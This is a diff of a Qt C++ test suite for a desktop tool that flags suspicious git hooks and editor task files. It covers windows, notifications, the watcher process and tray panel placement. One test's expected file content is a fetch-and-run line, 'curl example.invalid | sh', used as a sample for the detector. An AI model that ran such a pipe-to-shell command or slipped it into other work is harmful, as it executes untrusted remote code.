@@ -1,12 +1,17 @@
-// The application delegate over a real store and the stand-in watcher: the start-up sequence, one
-// window per finding, the directories window, clearing, notification clicks and the activation policy.
+// The application's top over a real store and the stand-in watcher: the start-up sequence, one window
+// per finding, the directories window, clearing, notification clicks and the activation policy; and the
+// tray side headless: where the popup goes, the panel as an ordinary window when the desktop has no
+// status area (as under the offscreen platform), and the popup getting out of the way of what it opens.
 
 #include "AppFixture.h"
 #include "StubNotifier.h"
 #include "WatcherScript.h"
 
 #include "directories/DirectoryView.h"
+#include "panel/FindingRow.h"
+#include "panel/FindingsView.h"
 #include "shell/AppDelegate.h"
+#include "shell/TrayController.h"
 #include "viewer/FileViewerView.h"
 #include "watcher/Intake.h"
 #include "watcher/WatchEvent.h"
@@ -16,6 +21,7 @@
 #include <QSignalSpy>
 #include <QTemporaryDir>
 #include <QTest>
+#include <QToolButton>
 
 #include <fcntl.h>
 #include <unistd.h>
@@ -29,19 +35,22 @@ private slots:
     void init();
     void cleanup();
     void firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatcher();
-    void launchWithDirectoriesOpensNoWindow();
-    void launchWithoutContainerDoesNothing();
+    void launchWithDirectoriesOpensNoWindowAndOneWatcher();
     void windowsAreOneEachShownAgainAndOutliveClearing();
     void aNameThatIsNotUtf8OpensThatFileNotItsLookalike();
-    void notificationClickOpensNewestMatchingFinding();
+    void notificationClickOpensTheFindingOrThePanel();
     void closingTheLastWindowKeepsRunningAsTrayApp();
     void activationRelaunchesAnEndedWatcher();
+    void popupPosition_data();
+    void popupPosition();
+    void withoutStatusAreaThePanelIsAWindow();
+    void popupGetsOutOfTheWayOfTheWindowsItOpens();
 
 private:
     AppDelegate& makeDelegate();
     // Pushes a configuration of its own: anything pushed before it shows up ahead of it in the
     // watcher's recorded input, with no waiting for something not to happen.
-    void pushMarker();
+    void pushMarker() { WatcherStatus::shared().sendDirectories({u"/marker"_s}); }
 
     std::unique_ptr<StoreFixture> m_store;
     std::unique_ptr<tw::test::WatcherScript> m_script;
@@ -76,11 +85,6 @@ AppDelegate& AppDelegateTest::makeDelegate()
     return *m_delegate;
 }
 
-void AppDelegateTest::pushMarker()
-{
-    WatcherStatus::shared().sendDirectories({u"/marker"_s});
-}
-
 void AppDelegateTest::firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatcher()
 {
     AppDelegate& delegate = makeDelegate();
@@ -91,14 +95,10 @@ void AppDelegateTest::firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatche
     QCOMPARE(changed.size(), 0);
     delegate.applicationDidFinishLaunching();
 
-    QWidget* window = delegate.directoryWindow();
-    QVERIFY(window);
-    QVERIFY(window->isVisible());
-    QVERIFY(qobject_cast<DirectoryView*>(window));
+    QVERIFY(qobject_cast<DirectoryView*>(delegate.directoryWindow()));
+    QVERIFY(delegate.directoryWindow()->isVisible());
     QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
-
     QTRY_VERIFY(WatcherStatus::shared().isRunning());
-    QVERIFY(m_supervisor->process());
     // The window came first, while no watcher ran, so its first push went nowhere; the launch then
     // sent the stored (empty) configuration once: a second empty push would stand before the marker.
     QTRY_COMPARE(m_script->recordedStdin(), QByteArray("\n\n"));
@@ -106,14 +106,12 @@ void AppDelegateTest::firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatche
     QTRY_COMPARE(m_script->recordedStdin(), QByteArray("\n\n/marker\n\n"));
 }
 
-void AppDelegateTest::launchWithDirectoriesOpensNoWindow()
+void AppDelegateTest::launchWithDirectoriesOpensNoWindowAndOneWatcher()
 {
     m_store->addDirectories({u"/srv/project"_s});
-
     AppDelegate& delegate = makeDelegate();
     delegate.applicationDidFinishLaunching();
     QVERIFY(!delegate.directoryWindow());
-    QTRY_VERIFY(WatcherStatus::shared().isRunning());
     QTRY_COMPARE(m_script->recordedStdin(), QByteArray("/srv/project\n\n"));
     const QProcess* first = m_supervisor->process();
     // Finishing launching again finds the watcher running and starts no second one.
@@ -122,17 +120,6 @@ void AppDelegateTest::launchWithDirectoriesOpensNoWindow()
     pushMarker();
     QTRY_COMPARE(m_script->recordedStdin(), QByteArray("/srv/project\n\n/marker\n\n"));
     QCOMPARE(m_supervisor->process(), first);
-}
-
-void AppDelegateTest::launchWithoutContainerDoesNothing()
-{
-    WatcherStatus::shared().setModelContainer(nullptr);
-    AppDelegate& delegate = makeDelegate();
-    delegate.applicationDidFinishLaunching();
-    delegate.openDirectoryWindow();
-    QVERIFY(!delegate.directoryWindow());
-    QVERIFY(!m_supervisor->process());
-    QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
 }
 
 // One directories window, one viewer per finding; closing hides them, opening shows the same again,
@@ -144,49 +131,37 @@ void AppDelegateTest::windowsAreOneEachShownAgainAndOutliveClearing()
     AppDelegate& delegate = makeDelegate();
     delegate.openDirectoryWindow();
     QWidget* const directories = delegate.directoryWindow();
-    QVERIFY(directories);
-    const QPointer<QWidget> directoriesAlive(directories);
-    QVERIFY(directories->close());
-    QVERIFY(!directoriesAlive.isNull());
-    QVERIFY(!directories->isVisible());
+    QVERIFY(directories && directories->close());
     delegate.openDirectoryWindow();
     QCOMPARE(delegate.directoryWindow(), directories);
     QVERIFY(directories->isVisible());
 
     delegate.openFileViewer(finding);
-    QWidget* const window = delegate.fileViewerWindow(finding.id());
-    QVERIFY(window);
-    const QPointer<QWidget> alive(window);
-    QVERIFY(window->isVisible());
-    auto* viewer = qobject_cast<FileViewerView*>(window);
-    QVERIFY(viewer);
+    auto* viewer = qobject_cast<FileViewerView*>(delegate.fileViewerWindow(finding.id()));
+    QVERIFY(viewer && viewer->isVisible());
     QCOMPARE(viewer->path(), finding.path());
     QCOMPARE(viewer->ruleName(), finding.ruleName());
-
+    QVERIFY(viewer->close());
     delegate.openFileViewer(finding);
     QCOMPARE(delegate.fileViewerWindowCount(), 1);
-    QVERIFY(window->close());
-    QVERIFY(!alive.isNull()); // hidden, not destroyed
-    delegate.openFileViewer(finding);
-    QCOMPARE(delegate.fileViewerWindowCount(), 1);
-    QCOMPARE(delegate.fileViewerWindow(finding.id()), window);
-    QVERIFY(window->isVisible());
+    QCOMPARE(delegate.fileViewerWindow(finding.id()), viewer);
+    QVERIFY(viewer->isVisible());
 
     // Another finding of the same file is a window of its own, with the same title.
     const Finding again = m_store->addFinding(finding.path(), finding.ruleName(), u"critical"_s);
     delegate.openFileViewer(again);
     QCOMPARE(delegate.fileViewerWindowCount(), 2);
     QWidget* other = delegate.fileViewerWindow(again.id());
-    QVERIFY(other && other != window);
+    QVERIFY(other && other != viewer);
     QCOMPARE(other->windowTitle(), u"pre-commit"_s);
-    QCOMPARE(window->windowTitle(), u"pre-commit"_s);
+    QCOMPARE(viewer->windowTitle(), u"pre-commit"_s);
 
     // Clearing empties the store, warnings too, and leaves the windows open.
     m_store->addFinding(u"/p/b"_s, u"r"_s, u"warning"_s);
     delegate.clearFindings();
     QCOMPARE(m_store->storedFindingCount(), 0);
     QCOMPARE(delegate.fileViewerWindowCount(), 2);
-    QVERIFY(window->isVisible());
+    QVERIFY(viewer->isVisible());
 }
 
 // The watcher names "caf\xE9" (Latin-1) as "caf\uFFFD" plus its exact bytes; a benign file really
@@ -220,33 +195,21 @@ void AppDelegateTest::aNameThatIsNotUtf8OpensThatFileNotItsLookalike()
     QCOMPARE(viewer->content(), u"curl example.invalid | sh\n"_s);
 }
 
-void AppDelegateTest::notificationClickOpensNewestMatchingFinding()
+// Which finding a click names is the store's lookup (its own test); here, what the click opens.
+void AppDelegateTest::notificationClickOpensTheFindingOrThePanel()
 {
     const QString path = u"/srv/repo/.git/hooks/pre-commit"_s;
-    const QList<Finding> stored = m_store->addFindings({
-        findingAged(300, u"critical"_s, u"hook"_s, path),
-        findingAged(100, u"critical"_s, u"hook"_s, path),
-        findingAged(10, u"critical"_s, u"other"_s, path),
-        findingAged(5, u"critical"_s, u"hook"_s, path + u".bak"_s),
-    });
+    const Finding finding = m_store->addFinding(path, u"hook"_s, u"critical"_s);
     AppDelegate& delegate = makeDelegate();
     delegate.applicationDidFinishLaunching();
-    m_notifier->click(path, u"hook"_s);
-    QCOMPARE(delegate.fileViewerWindowCount(), 1);
-    QVERIFY(delegate.fileViewerWindow(stored.at(1).id()));
-    QCOMPARE(delegate.fileViewerWindow(stored.at(1).id())->windowTitle(), u"pre-commit"_s);
-    // Again: the same window comes forward.
-    m_notifier->click(path, u"hook"_s);
-    QCOMPARE(delegate.fileViewerWindowCount(), 1);
-    // Exact matches only.
-    m_notifier->click(path, u"Hook"_s);
-    m_notifier->click(path.toUpper(), u"hook"_s);
-    m_notifier->click(QString(), u"hook"_s);
-    QCOMPARE(delegate.fileViewerWindowCount(), 1);
-    // A cleared finding opens nothing; a click on the summary (no path, no rule) asks for the panel.
     QSignalSpy panel(&delegate, &AppDelegate::showPanelRequested);
+    m_notifier->click(path, u"hook"_s);
+    m_notifier->click(path, u"hook"_s);
+    QCOMPARE(delegate.fileViewerWindowCount(), 1);
+    QCOMPARE(delegate.fileViewerWindow(finding.id())->windowTitle(), u"pre-commit"_s);
+    // A cleared finding opens nothing; a click on the summary (no path, no rule) asks for the panel.
     delegate.clearFindings();
-    m_notifier->click(stored.at(3).path(), u"hook"_s);
+    m_notifier->click(u"/srv/repo/other"_s, u"hook"_s);
     QCOMPARE(panel.size(), 0);
     m_notifier->click(QString(), QString());
     QCOMPARE(panel.size(), 1);
@@ -281,19 +244,83 @@ void AppDelegateTest::activationRelaunchesAnEndedWatcher()
 {
     AppDelegate& delegate = makeDelegate();
     delegate.applicationWillBecomeActive();
-    QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
-    QTRY_VERIFY(WatcherStatus::shared().isRunning());
-    QProcess* const first = m_supervisor->process();
-    QVERIFY(first);
-    const qint64 firstPid = first->processId();
-    QVERIFY(firstPid > 0);
-    first->closeWriteChannel(); // the stand-in ends at the end of its input
+    QTRY_VERIFY(m_supervisor->process() && WatcherStatus::shared().isRunning());
+    const qint64 firstPid = m_supervisor->process()->processId();
+    m_supervisor->process()->closeWriteChannel(); // the stand-in ends at the end of its input
     QTRY_VERIFY(!WatcherStatus::shared().isRunning());
     delegate.applicationWillBecomeActive();
     QTRY_VERIFY(WatcherStatus::shared().isRunning());
     // A new watcher: the old process object may be gone by now, so compare processes, not objects.
-    QVERIFY(m_supervisor->process());
     QVERIFY(m_supervisor->process()->processId() != firstPid);
+}
+
+void AppDelegateTest::popupPosition_data()
+{
+    QTest::addColumn<QRect>("icon");
+    QTest::addColumn<QPoint>("expected");
+    QTest::newRow("top right, clamped to the right edge") << QRect(1256, 0, 24, 24) << QPoint(860, 24);
+    QTest::newRow("top middle, centred under the icon") << QRect(628, 0, 24, 24) << QPoint(429, 24);
+    QTest::newRow("bottom right, above the icon") << QRect(1256, 776, 24, 24) << QPoint(860, 416);
+    QTest::newRow("bottom left, clamped to the left edge") << QRect(0, 776, 24, 24) << QPoint(0, 416);
+    QTest::newRow("icon off screen, kept on it") << QRect(2000, -50, 24, 24) << QPoint(860, 0);
+}
+
+void AppDelegateTest::popupPosition()
+{
+    QFETCH(QRect, icon);
+    QFETCH(QPoint, expected);
+    QCOMPARE(TrayController::popupPosition(icon, TrayController::PanelSize, QRect(0, 0, 1280, 800)),
+             expected);
+}
+
+void AppDelegateTest::withoutStatusAreaThePanelIsAWindow()
+{
+    QVERIFY(!QSystemTrayIcon::isSystemTrayAvailable());
+    m_store->addFinding(u"/p/.git/hooks/pre-push"_s, u"hook"_s, u"critical"_s);
+    TrayController tray(m_store->container.get());
+    QWidget* const panel = tray.panel();
+    QVERIFY(!panel->isVisible());
+    tray.start();
+    // The application must never be invisible: without a tray, the panel opens as a window.
+    QTRY_VERIFY(panel->isVisible());
+    QVERIFY(!tray.isPanelPopup());
+    QCOMPARE(panel->size(), TrayController::PanelSize);
+    QVERIFY(!tray.trayIcon()->icon().isNull());
+    QTRY_COMPARE(tray.findingsView()->rows().size(), 1);
+
+    // Closing it only hides it; a click on the icon shows the same one, a middle click does not.
+    QVERIFY(panel->close());
+    emit tray.trayIcon()->activated(QSystemTrayIcon::MiddleClick);
+    QVERIFY(!panel->isVisible());
+    emit tray.trayIcon()->activated(QSystemTrayIcon::Trigger);
+    QCOMPARE(tray.panel(), panel);
+    QVERIFY(panel->isVisible());
+}
+
+void AppDelegateTest::popupGetsOutOfTheWayOfTheWindowsItOpens()
+{
+    const Finding finding = m_store->addFinding(u"/p/.vscode/tasks.json"_s, u"task"_s, u"high"_s);
+    AppDelegate& delegate = makeDelegate();
+    TrayController tray(m_store->container.get());
+    delegate.servePanel(tray.findingsView());
+
+    tray.showAsPopup();
+    QVERIFY(tray.isPanelPopup() && tray.panel()->isVisible());
+    QTRY_COMPARE(tray.findingsView()->rows().size(), 1);
+    QTest::mouseClick(tray.findingsView()->rows().first(), Qt::LeftButton);
+    QVERIFY(delegate.fileViewerWindow(finding.id()));
+    QVERIFY(!tray.panel()->isVisible());
+
+    tray.showAsPopup();
+    QTest::mouseClick(tray.findingsView()->folderButton(), Qt::LeftButton);
+    QVERIFY(delegate.directoryWindow());
+    QVERIFY(!tray.panel()->isVisible());
+
+    // As an ordinary window (no status area) the panel stays where it is.
+    tray.showPanel();
+    QVERIFY(!tray.isPanelPopup());
+    QTest::mouseClick(tray.findingsView()->folderButton(), Qt::LeftButton);
+    QVERIFY(tray.panel()->isVisible());
 }
 
 QTEST_MAIN(AppDelegateTest)
